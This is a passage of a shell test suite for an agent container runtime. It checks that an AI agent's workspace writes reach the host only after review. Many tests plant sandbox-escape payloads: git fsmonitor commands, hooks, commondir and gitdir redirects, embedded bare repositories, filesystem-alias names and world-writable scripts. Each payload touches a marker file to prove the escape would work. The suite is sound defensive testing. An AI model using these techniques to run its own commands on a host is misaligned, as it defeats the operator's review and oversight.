#!/usr/bin/env bats
# workspace.bats - overlay workspaces: the agent's writes reach the host only
# when committed.  The engine's view: a host directory bound at
# /workspace, run under the `agent` profile, which turns it into an overlay.

# The bundle every test starts from (busybox, its applets, `spec`'s config.json), made once
# for the file: a test copies it in one process, where making it was twenty.
setup_file() {
  [ "$(id -u)" = 0 ] && [ -x /bin/busybox ] || return 0
  local repo a
  repo=$(cd "$BATS_TEST_DIRNAME/../.." && pwd)
  TEMPLATE=$BATS_FILE_TMPDIR/bundle
  mkdir -p "$TEMPLATE/rootfs/bin" "$TEMPLATE/rootfs/proc" "$TEMPLATE/rootfs/dev" "$TEMPLATE/rootfs/sys" \
    "$TEMPLATE/rootfs/workspace"
  cp /bin/busybox "$TEMPLATE/rootfs/bin/"
  for a in sh ls cat echo mv rm mkdir sleep sed cp printf chmod touch ln head dd mkfifo; do ln -s busybox "$TEMPLATE/rootfs/bin/$a"; done
  "${AGENTRT:-$repo/agentrt}" spec --bundle "$TEMPLATE"
  export TEMPLATE
}

setup() {
  [ "$(id -u)" = 0 ] || skip "needs root"
  [ -x /bin/busybox ] || skip "needs busybox-static"
  REPO=$(cd "$BATS_TEST_DIRNAME/../.." && pwd)
  AGENTRT=${AGENTRT:-$REPO/agentrt}
  T=$(mktemp -d /tmp/agentrt-ws-bats.XXXXXX)
  ROOT=$T/root
  export AGENTRT_DATA_DIR=$T/data AGENTRT_CONFIG=$T/agentrt.conf
  STORE=$AGENTRT_DATA_DIR/roots/$(printf '%s' "${ROOT#/}" | tr / +)
  HOST=$T/host
  BUNDLE=$T/bundle
  ID=wsbats-$$-$BATS_TEST_NUMBER
  mkdir -p "$HOST/data" "$HOST/src"
  cp -a "$TEMPLATE" "$BUNDLE"
  echo hello >"$HOST/a.txt"
  echo keep >"$HOST/b.txt"
  printf 'int main(void) { return 0; }\n' >"$HOST/src/main.c"
  head -c 8192 /dev/urandom >"$HOST/data/app.db"
  echo "rows" >"$HOST/data/rows.txt"
  SUM0=$(host_sum)
}

teardown() {
  [ -n "${T:-}" ] || return 0
  "$AGENTRT" --root "$ROOT" delete --force "$ID" >/dev/null 2>&1 || true
  "$AGENTRT" --root "$ROOT" workspace "$ID" purge >/dev/null 2>&1 || true
  ! grep -q "$T" /proc/self/mountinfo
  rm -rf "$T"
}

ar() {
  "$AGENTRT" --root "$ROOT" --profile agent "$@"
}

fail() {
  echo "FAIL: $*" >&2
  return 1
}

# Contents, names, modes and times of the host dir as one hash.
host_sum() {
  tar -C "$HOST" --sort=name -cf - . | sha256sum | cut -d' ' -f1
}

# Names, types, modes, sizes, link targets and contents below the host dir (not
# the directories' times: staging a commit that is then undone touches them).
host_tree() {
  (cd "$HOST" && find . -printf '%p %y %m %s %l\n' | sort && find . -type f -print0 | sort -z |
    xargs -0 -r sha256sum) | sha256sum | cut -d' ' -f1
}

# bundle_for SCRIPT: the container runs `sh -c SCRIPT` with the overlay workspace.
bundle_for() {
  local args
  args=$(jq -cn --arg s "$1" '["sh", "-c", $s]')
  jq --arg h "$HOST" --argjson a "$args" \
    '.process.terminal = false | .process.args = $a |
     .mounts += [{"destination": "/workspace", "type": "bind", "source": $h, "options": ["rbind", "rw"]}]' \
    "$BUNDLE/config.json" >"$T/config.json"
  mv "$T/config.json" "$BUNDLE/config.json"
}

AGENT_WORK='cd /workspace && echo new >n.txt && echo more >>a.txt && mv b.txt b2.txt &&
  rm -rf data && mkdir sub && echo x >sub/x && cat a.txt'

# "kind:path" of every change, sorted.
changes() {
  ar workspace "$ID" diff --format json |
    jq -r '.changes[] | "\(.kind):\(.path)\(if .old_path then "<-" + .old_path else "" end)"' |
    sort
}

@test "workspace: the agent's edits, renames and rm -rf leave the host byte-for-byte unchanged" {
  bundle_for "$AGENT_WORK"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'hello\nmore')" ]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:n.txt added:sub added:sub/x deleted:data modified:a.txt \
    'renamed:b2.txt<-b.txt' | sort)" ]
  run ar workspace "$ID" diff
  [[ "$output" == *"deleted   data/  (directory, 2 files, 8197 bytes)"* ]]
  run ar workspace "$ID" diff --patch
  [[ "$output" == *"+more"* ]]
  [ "$(host_sum)" = "$SUM0" ]
}

# The agent's modes reach the host (an executable stays one), but write permission for every
# local user is not the agent's to give: a world-writable script or directory in the
# operator's tree lets any user of the host change, after the review, what the operator then
# runs.  Kept where the host's own file already had it.
@test "escape: world-writable: a file and a directory the agent made 0777 reached the host writable by every local user" {
  chmod 0775 "$HOST" # open to its group: the group's write is kept (see group-writable)
  echo shared >"$HOST/shared.txt" && chmod 0666 "$HOST/shared.txt"
  chmod 0644 "$HOST/a.txt"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0777 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0777 tools tools/sub && chmod 0666 a.txt && echo more >>shared.txt &&
    echo y >exec.sh && chmod 0755 exec.sh'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/build.sh")" = run ] && [ "$(cat "$HOST/tools/sub/x")" = x ] || fail "not committed"
  [ -z "$(find "$HOST" -perm -o+w ! -name shared.txt -printf '%m %P\n')" ] ||
    fail "writable by others: $(find "$HOST" -perm -o+w -printf '%m %P\n')"
  [ "$(stat -c %a "$HOST/build.sh")" = 775 ] && [ "$(stat -c %a "$HOST/tools")" = 775 ] &&
    [ "$(stat -c %a "$HOST/exec.sh")" = 755 ] && [ "$(stat -c %a "$HOST/a.txt")" = 664 ] ||
    fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub exec.sh a.txt)"
  [ "$(stat -c %a "$HOST/shared.txt")" = 666 ] && [ "$(tail -1 "$HOST/shared.txt")" = more ] ||
    fail "the host's own 0666 file: $(stat -c '%a' "$HOST/shared.txt")"
}

# Group write: a host dir the operator keeps closed to its group (0755, whatever the files'
# group) must not receive the agent's group-writable script or directory (any member of the
# group could change, after the review, what the operator runs); the host's own
# group-writable file keeps its mode; a host dir open to its group (0775, a umask of 002 or a
# shared project) keeps the agent's group write, as the operator's own files there have it.
@test "escape: group-writable: a script and a directory the agent made 0775 reached a 0755 host dir writable by its group" {
  chmod 0755 "$HOST"
  echo shared >"$HOST/shared.txt" && chmod 0664 "$HOST/shared.txt"
  chmod 0644 "$HOST/a.txt"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0775 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0664 tools/sub/x && chmod 0775 tools tools/sub && chmod 0664 a.txt &&
    echo more >>shared.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/build.sh")" = run ] && [ "$(cat "$HOST/tools/sub/x")" = x ] || fail "not committed"
  [ -z "$(find "$HOST" -perm -g+w ! -name shared.txt -printf '%m %P\n')" ] ||
    fail "writable by the group: $(find "$HOST" -perm -g+w -printf '%m %P\n')"
  [ "$(stat -c %a "$HOST/build.sh")" = 755 ] && [ "$(stat -c %a "$HOST/tools")" = 755 ] &&
    [ "$(stat -c %a "$HOST/a.txt")" = 644 ] || fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools a.txt)"
  [ "$(stat -c %a "$HOST/shared.txt")" = 664 ] && [ "$(tail -1 "$HOST/shared.txt")" = more ] ||
    fail "the host's own 0664 file: $(stat -c '%a' "$HOST/shared.txt")"
}

@test "workspace: a host dir open to its group (0775) keeps the group write of the agent's new files and directories" {
  chmod 0775 "$HOST"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0775 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0664 tools/sub/x && chmod 0775 tools tools/sub'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub tools/sub/x | tr '\n' ' ')" = "775 build.sh 775 tools 775 tools/sub 664 tools/sub/x " ] ||
    fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub tools/sub/x)"
}

# A bind mount nested under the workspace (docker -v X:/workspace/cache/sub) needs its
# mount point: the runtime makes it (and its missing parents), runc in the host dir itself,
# agentrt in the upper layer.  Those directories are not the agent's changes: the review
# does not list them and commit does not make them; what the agent puts beside them is
# listed as usual.
@test "workspace: mount points made for binds nested under /workspace are not agent changes" {
  mkdir -p "$T/ext" && echo outside >"$T/ext/o.txt" && echo conf >"$T/app.conf"
  bundle_for 'cd /workspace && test -f cache/sub/o.txt && test "$(cat conf/app.conf)" = conf && echo mine >cache/mine.txt && echo OK'
  jq --arg e "$T/ext" --arg f "$T/app.conf" '.mounts += [{"destination": "/workspace/cache/sub", "type": "bind", "source": $e, "options": ["rbind", "ro"]},
      {"destination": "/workspace/tmp2", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]},
      {"destination": "/workspace/conf/app.conf", "type": "bind", "source": $f, "options": ["bind", "ro"]}]' \
    "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *OK* ]] || fail "run: $output"
  run changes
  [ "$output" = "$(printf 'added:cache\nadded:cache/mine.txt')" ] || fail "changes: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/cache/mine.txt")" = mine ] && [ ! -e "$HOST/cache/sub" ] && [ ! -e "$HOST/tmp2" ] &&
    [ ! -e "$HOST/conf" ] ||
    fail "host: $(find "$HOST" | sort)"
  # the next run has no such mounts: what the agent puts at those paths is its change
  jq '.process.args = ["sh", "-c", "cd /workspace && mkdir -p cache/sub tmp2/d && echo evil >cache/sub/evil.sh && echo e >tmp2/d/e && echo x >conf/app.conf && echo OK"] |
      del(.mounts[] | select(.destination | startswith("/workspace/")))' \
    "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *OK* ]] || fail "run 2: $output"
  run changes
  [ "$output" = "$(printf 'added:cache/sub\nadded:cache/sub/evil.sh\nadded:conf\nadded:conf/app.conf\nadded:tmp2\nadded:tmp2/d\nadded:tmp2/d/e')" ] ||
    fail "changes of run 2: $output"
}

@test "workspace: commit of one path applies only it; a host change is a conflict" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace "$ID" commit /workspace/a.txt
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/a.txt")" = "$(printf 'hello\nmore')" ]
  [ -f "$HOST/b.txt" ] && [ -f "$HOST/data/app.db" ] && [ ! -e "$HOST/n.txt" ]
  run changes
  [[ "$output" != *"a.txt"* ]]
  echo "operator" >"$HOST/b.txt"
  sum=$(host_sum)
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ]
  [[ "$output" == *"conflict: b.txt: changed on host"* ]]
  [ "$(host_sum)" = "$sum" ]
  # the rest commits; rm -rf data goes through
  run ar workspace "$ID" commit sub data n.txt
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/sub/x")" = x ] && [ ! -e "$HOST/data" ] && [ "$(cat "$HOST/b.txt")" = operator ]
}

@test "workspace: discard leaves the host unchanged and the diff empty" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace "$ID" discard
  [ "$status" -eq 0 ]
  run ar workspace "$ID" diff
  [[ "$output" == "no changes"* ]]
  [ "$(host_sum)" = "$SUM0" ]
}

@test "workspace: snapshot, more damage, rollback of a running container; after delete diff and commit work; purge leaves nothing" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo v1 >/workspace/a.txt && echo s >/workspace/snap.txt'
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ] && [ "$output" = s1 ]
  [ "$(ar state "$ID" | jq -r .status)" = running ]
  ar exec "$ID" sh -c 'rm -rf /workspace/data /workspace/src && echo v2 >/workspace/a.txt && echo junk >/workspace/junk'
  run ar workspace "$ID" rollback s1
  [ "$status" -eq 0 ]
  [ "$(ar state "$ID" | jq -r .status)" = running ]
  run ar exec "$ID" sh -c 'cat /workspace/a.txt /workspace/snap.txt /workspace/data/rows.txt; ls /workspace'
  [ "$status" -eq 0 ]
  [[ "$output" == "$(printf 'v1\ns\nrows')"* ]]
  [[ "$output" != *junk* ]]
  run ar workspace "$ID" list
  [[ "$output" == *s1* ]]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:snap.txt modified:a.txt)" ]
  ar delete --force "$ID"
  run changes
  [ "$output" = "$(printf '%s\n' added:snap.txt modified:a.txt)" ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/a.txt")" = v1 ] && [ "$(cat "$HOST/snap.txt")" = s ]
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ]
  [ ! -e "$STORE/.workspaces/$ID" ]
  run ar workspace list --format json
  [ "$output" = "[]" ]
}

# After a rollback the overlay's lowerdir names the snapshot in the data directory and the host
# dir: under an engine's 64-character id and with a snapshot's name of up to 128 characters it
# is longer than the 255 bytes fsconfig() takes, and the rollback's new overlay failed
# (mounts.bats "overlay-long-options").
@test "workspace: snapshot-long-id: snapshots with long names and rollbacks of a running container with a 64-character id (as Docker's)" {
  local long=before-the-agent-refactors-the-billing-module-and-its-tests-so-that-we-can-come-back-to-this-state-if-needed
  ID=$(printf '%s' "$BATS_TEST_NUMBER-$$" | sha256sum | cut -c1-64)
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  for i in 1 2 3; do
    ar exec "$ID" sh -c "echo v$i >/workspace/a.txt && echo $i >/workspace/f$i.txt"
    run ar workspace "$ID" snapshot "$long-$i"
    [ "$status" -eq 0 ] && [ "$output" = "$long-$i" ] || fail "snapshot $i: $output"
  done
  ar exec "$ID" sh -c 'echo junk >/workspace/junk'
  run ar workspace "$ID" rollback "$long-3"
  [ "$status" -eq 0 ] || fail "rollback 3: $output"
  run ar exec "$ID" sh -c 'cat /workspace/a.txt /workspace/f1.txt /workspace/f2.txt /workspace/f3.txt; ls /workspace'
  [[ "$output" == "$(printf 'v3\n1\n2\n3')"* ]] && [[ "$output" != *junk* ]] || fail "after 3: $output"
  run ar workspace "$ID" rollback "$long-2"
  [ "$status" -eq 0 ] || fail "rollback 2: $output"
  run ar exec "$ID" sh -c 'cat /workspace/a.txt; ls /workspace'
  [[ "$output" == v2* ]] && [[ "$output" != *f3.txt* ]] || fail "after 2: $output"
  ar delete --force "$ID"
  run changes
  [ "$output" = "$(printf '%s\n' added:f1.txt added:f2.txt modified:a.txt)" ] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ]
}

# Overlay mode decides protection at review time: nothing is mounted over
# .git, no placeholder is created, and a hook written after a rollback (on the
# new overlay) is marked by diff and left out by commit.
@test "workspace: overlay mode mounts nothing over .git; a hook written after a rollback is left out of the commit" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  run ar exec "$ID" sh -c 'cat /proc/self/mountinfo'
  [[ "$output" != *"/workspace/.git"* ]]
  run ar exec "$ID" sh -c 'ls -a /workspace'
  [[ "$output" != *".git"* ]]
  run ar explain "$ID"
  [[ "$output" == *"workspace.protected"*"--include-protected"* ]] || fail "$output"
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ]
  run ar workspace "$ID" rollback s1
  [ "$status" -eq 0 ]
  ar exec "$ID" sh -c 'mkdir -p /workspace/.git/hooks && echo evil >/workspace/.git/hooks/pre-commit &&
    echo fine >/workspace/ok.txt'
  ar delete --force "$ID"
  run ar workspace "$ID" diff
  [[ "$output" == *"! added     .git/hooks/pre-commit"*"[protected: git configuration, hooks"* ]]
  [[ "$output" == *"# 3 protected"* ]] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == "ok.txt") | .protected // "none"' <<<"$output")" = none ]
  [ "$(jq -r '.changes[] | select(.path == ".git/hooks/pre-commit") | .protected' <<<"$output")" != null ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [[ "$output" == *"left out .git/hooks/pre-commit (protected"* ]]
  [ "$(cat "$HOST/ok.txt")" = fine ]
  [ ! -e "$HOST/.git" ]
}

# --- escapes through git: each is planted by the agent, committed, and then the
# operator's usual git commands run ON THE HOST.  The marker file is what the
# planted hook or core.fsmonitor command would create.  Each test also runs the
# control: the same change committed with --include-protected does run the
# agent's command, so the test proves the attack is real and the rule stops it.

host_git_env() {
  export HOME=$T/home GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=op GIT_AUTHOR_EMAIL=op@example.com
  export GIT_COMMITTER_NAME=op GIT_COMMITTER_EMAIL=op@example.com
  mkdir -p "$HOME"
}

# A host repository at $HOST with one commit and (unless `plain`) a submodule `lib`.
host_repo() {
  requires_git
  host_git_env
  git -C "$HOST" init -q
  if [ "${1:-}" != plain ]; then
    git init -q "$T/libsrc" && git -C "$T/libsrc" commit -q --allow-empty -m lib
    git -C "$HOST" -c protocol.file.allow=always submodule -q add "$T/libsrc" lib
  fi
  git -C "$HOST" add -A && git -C "$HOST" commit -q -m base
}

requires_git() {
  command -v git >/dev/null || skip "needs git"
}

# The operator's usual commands, in the host dir and in each DIR below it.
host_git() {
  local d
  for d in "" "$@"; do
    [ -d "$HOST/$d" ] || continue
    (cd "$HOST/$d" && git status && git add -A && git commit -q --allow-empty -m review &&
      git -c protocol.file.allow=always submodule update --init --checkout --force) \
      >/dev/null 2>&1 </dev/null || true
  done
}

FSMON='printf "[core]\n\tfsmonitor = \"touch $MARK; false\"\n"'

# escape NAME 'PLANT' 'HOST DIRS' PROTECTED-PATH...: the agent runs PLANT in
# /workspace ($MARK is the marker's host path; $HOST_SETUP, if set, runs first in the
# host repository, with $MARK set); the diff must mark every
# PROTECTED-PATH; after the default commit host_git must not create the
# marker; after commit --include-protected of each path it must.
escape() {
  local name=$1 plant=$2 dirs=$3 p
  shift 3
  host_repo
  MARK=$T/marker-$name
  [ -z "${HOST_SETUP:-}" ] || (cd "$HOST" && eval "$HOST_SETUP")
  bundle_for "cd /workspace && MARK=$MARK && FSMON='$FSMON' && $plant"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  run ar workspace "$ID" diff --format json
  for p in "$@"; do
    jq -e --arg p "$p" '[.changes[] | select((.path == $p or (.path | startswith($p + "/"))) and .protected)] | length > 0' \
      <<<"$output" >/dev/null || fail "$p is not marked protected: $output"
  done
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  for p in "$@"; do
    [[ "$output" == *"left out $p"* ]] || fail "commit did not say it left out $p: $output"
  done
  # shellcheck disable=SC2086
  host_git $dirs
  [ ! -e "$MARK" ] || fail "$name: the agent's command ran on the host after commit"
  local incl=()
  for p in "$@"; do incl+=(--include-protected "$p"); done
  run ar workspace "$ID" commit "${incl[@]}"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  # shellcheck disable=SC2086
  host_git $dirs
  [ -e "$MARK" ] || fail "$name: control: the planted command did not run even when committed"
}

@test "escape: .git/commondir pointing at a directory with its own config (core.fsmonitor)" {
  escape commondir 'mkdir -p evil && cp -r .git/objects .git/refs evil/ && eval "$FSMON" >evil/config &&
    echo ../evil >.git/commondir' "" .git/commondir
}

@test "escape: .git/config core.fsmonitor" {
  escape config 'eval "$FSMON" >>.git/config' "" .git/config
}

@test "escape: .git/hooks/pre-commit" {
  escape hooks 'printf "#!/bin/sh\ntouch $MARK\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit' \
    "" .git/hooks/pre-commit
}

# A worktree's own config file, read where the host's config sets extensions.worktreeConfig
# (what `git sparse-checkout` turns on), and info/attributes, which routes every file
# through a filter the operator defined (as git-lfs's is): both below `.git`, left out.
@test "escape: .git/config.worktree where the host's config sets extensions.worktreeConfig (core.fsmonitor)" {
  HOST_SETUP='git config extensions.worktreeConfig true' \
    escape config-worktree 'eval "$FSMON" >.git/config.worktree' "" .git/config.worktree
}

@test "escape: .git/info/attributes routing every file through the operator's filter driver" {
  host_repo plain
  MARK=$T/marker-attributes
  git -C "$HOST" config filter.op.clean "touch $MARK; cat"
  bundle_for 'cd /workspace && mkdir -p .git/info && echo "* filter=op" >.git/info/attributes && echo x >>a.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked .git/info/attributes
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/info/attributes"* ]] || fail "commit: $output"
  # the operator's next edit: git status and add hash the file again
  echo y >>"$HOST/a.txt" && host_git
  [ ! -e "$MARK" ] || fail "the operator's filter ran on a file the agent routed to it"
  # control: included, the same edit runs the filter (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/info/attributes
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  echo z >>"$HOST/a.txt" && host_git
  [ -e "$MARK" ] || fail "control: the filter did not run with the attributes committed"
}

@test "escape: .git/modules/*/config of a submodule (core.fsmonitor, run by git status)" {
  escape modules-config 'eval "$FSMON" >>.git/modules/lib/config' "" .git/modules/lib/config
}

@test "escape: .git/modules/*/hooks of a submodule (post-checkout, run by git submodule update)" {
  escape modules-hook 'mkdir -p .git/modules/lib/hooks &&
    printf "#!/bin/sh\ntouch $MARK\n" >.git/modules/lib/hooks/post-checkout &&
    chmod +x .git/modules/lib/hooks/post-checkout' "" .git/modules/lib/hooks
}

@test "escape: .git/worktrees/* with a commondir of the agent's and a gitdir: file" {
  escape worktrees 'mkdir -p evil/objects evil/refs/heads .git/worktrees/w w && eval "$FSMON" >evil/config &&
    echo ../../../evil >.git/worktrees/w/commondir && echo "ref: refs/heads/w" >.git/worktrees/w/HEAD &&
    echo /workspace/w/.git >.git/worktrees/w/gitdir && echo "gitdir: ../.git/worktrees/w" >w/.git' \
    w .git/worktrees/w w/.git
}

@test "escape: a gitdir: file pointing at a directory of the agent's" {
  escape gitdir-file 'mkdir -p sub evilg/objects evilg/refs/heads && echo "ref: refs/heads/master" >evilg/HEAD &&
    { printf "[core]\n\trepositoryformatversion = 0\n"; eval "$FSMON"; } >evilg/config &&
    echo "gitdir: ../evilg" >sub/.git' "sub evilg" sub/.git evilg/config evilg/HEAD
}

@test "escape: a nested repository's sub/.git/hooks/pre-commit" {
  escape nested-hooks 'mkdir -p n/.git/objects n/.git/refs/heads n/.git/hooks && echo "ref: refs/heads/master" >n/.git/HEAD &&
    printf "[core]\n\trepositoryformatversion = 0\n" >n/.git/config &&
    printf "#!/bin/sh\ntouch $MARK\n" >n/.git/hooks/pre-commit && chmod +x n/.git/hooks/pre-commit' \
    n n/.git/hooks n/.git/config
}

@test "escape: a nested repository's sub/.git/config (core.fsmonitor)" {
  escape nested-config 'mkdir -p n/.git/objects n/.git/refs/heads && echo "ref: refs/heads/master" >n/.git/HEAD &&
    { printf "[core]\n\trepositoryformatversion = 0\n"; eval "$FSMON"; } >n/.git/config' n n/.git/config
}

@test "escape: an embedded bare repository (HEAD, objects, refs, config with core.worktree and core.fsmonitor)" {
  escape bare-repo 'mkdir -p b/objects b/refs/heads && echo "ref: refs/heads/master" >b/HEAD &&
    { printf "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n"; eval "$FSMON"; } >b/config' \
    b b/config b/HEAD
}

@test "escape: an embedded bare repository whose HEAD is a symlink (git accepts a symlinked HEAD)" {
  escape bare-repo-symlink-head 'mkdir -p b/objects b/refs/heads && ln -s refs/heads/master b/HEAD &&
    { printf "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n"; eval "$FSMON"; } >b/config' \
    b b/config b/HEAD
}

# The bare repository in two steps: its config, objects/ and refs/ are
# ordinary files while the directory has no HEAD; the HEAD committed later
# makes the config git's.  A new HEAD outside `.git` is protected itself.
@test "escape: a bare repository assembled over two commits (config first, HEAD later)" {
  host_repo plain
  MARK=$T/marker-bare-later
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c "cd /workspace && mkdir -p b/objects/pack b/refs/heads &&
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch $MARK; false\"\n' >b/config"
  ar workspace "$ID" diff >/dev/null
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [ -f "$HOST/b/config" ] || fail "first commit: $output"
  ar exec "$ID" sh -c 'echo "ref: refs/heads/master" >/workspace/b/HEAD && echo ok >/workspace/ok.txt'
  marked b/HEAD
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [[ "$output" == *"left out b/HEAD"* ]] || fail "$output"
  [ "$(cat "$HOST/ok.txt")" = ok ] && [ ! -e "$HOST/b/HEAD" ]
  host_git b
  [ ! -e "$MARK" ] || fail "the agent's core.fsmonitor ran on the host"
  ar workspace "$ID" diff >/dev/null
  run ar workspace "$ID" commit --include-protected b/HEAD
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  host_git b
  [ -e "$MARK" ] || fail "control: the agent's core.fsmonitor did not run even with b/HEAD committed"
}

# No command of the agent's runs through these, but git reads them: objects
# from elsewhere (alternates), ignore rules that hide files (info/exclude),
# submodule URLs (.gitmodules), a `.git` that is a symlink or written in
# another case.  Each is marked and left out; the host keeps its own.
@test "escape: .git/info/, .git/objects/info/alternates, .gitmodules, a .git symlink and .GIT are left out" {
  host_repo
  sum_git=$(tar -C "$HOST" -cf - .git .gitmodules | sha256sum)
  bundle_for 'cd /workspace && mkdir -p .git/info .git/objects/info other/.GIT x && echo "*.evil" >.git/info/exclude &&
    echo /tmp/elsewhere >.git/objects/info/alternates && printf "[submodule \"lib\"]\n\tpath = lib\n\turl = ../evil\n" >.gitmodules &&
    echo "[core]" >other/.GIT/config && ln -s /tmp x/.git && echo ok >ok.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  run ar workspace "$ID" diff --format json
  for p in .git/info/exclude .git/objects/info/alternates .gitmodules other/.GIT/config x/.git; do
    [ "$(jq -r --arg p "$p" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" != none ] ||
      fail "$p not protected: $output"
  done
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/ok.txt")" = ok ]
  [ "$(tar -C "$HOST" -cf - .git .gitmodules | sha256sum)" = "$sum_git" ]
  [ ! -e "$HOST/other/.GIT/config" ] && [ ! -L "$HOST/x/.git" ]
}

# marked JSON-PATH...: each path (jq string, may hold escapes) is in the diff and protected.
marked() {
  local p
  run ar workspace "$ID" diff --format json
  for p in "$@"; do
    [ "$(jq -r --argjson p "\"$p\"" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" != none ] ||
      fail "$p not protected: $output"
  done
}

# HFS+ drops U+200C and other ignorable code points from names, NTFS drops
# trailing dots and spaces and reads `name:stream` as name: on such a host
# these are `.git` and `.gitmodules`.
@test "escape: .git aliases a case-folding host resolves (.g\u200cit/hooks, .git::\$INDEX_ALLOCATION/config, .gitmodules.)" {
  host_repo plain
  sum_git=$(tar -C "$HOST" -cf - .git | sha256sum)
  bundle_for 'cd /workspace && z=$(printf "\342\200\214") && mkdir -p ".g${z}it/hooks" ".git::\$INDEX_ALLOCATION" &&
    echo x >".g${z}it/hooks/pre-commit" && echo "[core]" >".git::\$INDEX_ALLOCATION/config" &&
    echo x >.gitmodules. && echo x >"GIT~1" && echo ok >ok.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  marked '.g\u200cit/hooks/pre-commit' '.git::$INDEX_ALLOCATION/config' .gitmodules. 'GIT~1'
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/ok.txt")" = ok ]
  [ "$(tar -C "$HOST" -cf - .git | sha256sum)" = "$sum_git" ]
  [ "$(find "$HOST" -maxdepth 1 -name '*it*' ! -name .git | wc -l)" = 0 ] || fail "an alias reached the host: $(ls -a "$HOST")"
}

# On a case-folding host git opens `head` for HEAD: the directory is a bare
# repository there, and its config is git's configuration.
@test "escape: an embedded bare repository whose HEAD is spelled head (a case-folding host)" {
  bundle_for 'cd /workspace && mkdir -p b/objects b/refs/heads && echo "ref: refs/heads/master" >b/head &&
    printf "[core]\n\tfsmonitor = touch /x\n" >b/config && echo ok >ok.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  marked b/config
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [ ! -e "$HOST/b/config" ] && [ "$(cat "$HOST/ok.txt")" = ok ]
}

# A symlink the agent commits is followed by host tools (an editor, a build
# that writes its output, a host agent reading files): one that leads out of
# the workspace or into .git is marked and left out; its target is shown.
@test "escape: symlinks out of the workspace or into .git (absolute, ../.., dir/.., .git/hooks)" {
  host_repo plain
